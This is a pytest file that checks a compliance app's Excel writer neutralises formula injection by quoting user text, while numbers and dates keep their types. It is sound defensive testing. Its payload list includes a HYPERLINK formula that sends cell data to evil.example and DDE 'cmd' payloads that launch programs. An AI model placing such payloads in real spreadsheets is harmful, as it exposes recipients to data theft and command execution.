"""The one Excel writer: user text is written as text, never as a formula; numbers and dates stay
numbers and dates; and no workbook is made anywhere else."""

from __future__ import annotations

import ast
import datetime
import io
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from compliance.imports.writer import as_text, from_text, new_workbook, workbook_bytes

ROOT = Path(__file__).resolve().parents[2]
WRITER = ROOT / "compliance" / "imports" / "writer.py"

# OWASP's list, and the full-width forms a Chinese input method types.
DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
NUMBERS_AND_DATES = [
    -5,
    0,
    3.5,
    Decimal("-2.5"),
    datetime.date(2026, 3, 2),
    datetime.datetime(2026, 3, 2, 8, 30),
]


def _written(write_only: bool, rows: list[list]):
    wb = new_workbook(write_only=write_only)
    ws = wb.create_sheet("data") if write_only else wb.active
    for row in rows:
        ws.append(row)
    return load_workbook(io.BytesIO(workbook_bytes(wb))).worksheets[0]


@pytest.mark.parametrize("write_only", [False, True])
@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_trigger_is_quoted_and_stored_as_text(text, write_only):
    cell = _written(write_only, [[text]])["A1"]
    assert cell.data_type == "s"
    # XML turns a lone carriage return into a line feed; the quote is what counts.
    assert cell.value == "'" + text.replace("\r", "\n")
    assert from_text(as_text(text)) == text


@pytest.mark.parametrize("write_only", [False, True])
def test_numbers_and_dates_stay_numbers_and_dates(write_only):
    row = [cell for cell in _written(write_only, [NUMBERS_AND_DATES])[1]]
    assert [c.data_type for c in row] == ["n", "n", "n", "n", "d", "d"]
    assert [c.value for c in row[:4]] == [-5, 0, 3.5, -2.5]
    assert row[4].value == datetime.datetime(2026, 3, 2) and row[5].value == datetime.datetime(
        2026, 3, 2, 8, 30
    )


@pytest.mark.parametrize("write_only", [False, True])
def test_plain_text_is_written_as_it_is(write_only):
    texts = ["张三", "A-001", "2026年度安全再培训", "a=b", "#N/A", "'quoted"]
    row = [cell for cell in _written(write_only, [texts + [None, True]])[1]]
    assert [c.value for c in row[:6]] == texts and all(c.data_type == "s" for c in row[:6])
    assert row[6].value is None and row[7].value is True


def test_characters_xml_cannot_hold_do_not_break_the_file():
    assert _written(False, [["张\x01三\x1f"]])["A1"].value == "张三"


def test_every_way_of_setting_a_cell_is_covered():
    wb = new_workbook()
    ws = wb.active
    ws["A1"] = "=1+1"
    ws.cell(row=2, column=1, value="=2+2")
    wb.create_sheet("second").append(["=3+3"])
    read = load_workbook(io.BytesIO(workbook_bytes(wb)))
    cells = [read.worksheets[0]["A1"], read.worksheets[0]["A2"], read.worksheets[1]["A1"]]
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("'=2+2", "s"), ("'=3+3", "s")]


def test_reading_back_removes_only_the_writers_quote():
    assert from_text("'=1+1") == "=1+1" and from_text("'-5℃") == "-5℃"
    assert from_text("'quoted") == "'quoted" and from_text("=1+1") == "=1+1" and from_text(5) == 5


def _makes_a_workbook(path: Path) -> list[str]:
    found = []
    for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl"):
            found += [f"{path}:{node.lineno}" for alias in node.names if alias.name in ("Workbook", "Cell")]
        elif isinstance(node, ast.Attribute) and node.attr == "Workbook":
            found.append(f"{path}:{node.lineno}")
    return found


def test_no_workbook_is_made_outside_the_writer():
    """Every export and template starts at ``new_workbook``; a second way to write a workbook
    would write user text as formulas again."""
    sources = [
        p
        for app in ("compliance", "tenants")
        for p in (ROOT / app).rglob("*.py")
        if p != WRITER and "migrations" not in p.parts
    ]
    assert len(sources) > 20
    assert [hit for p in sources for hit in _makes_a_workbook(p)] == []
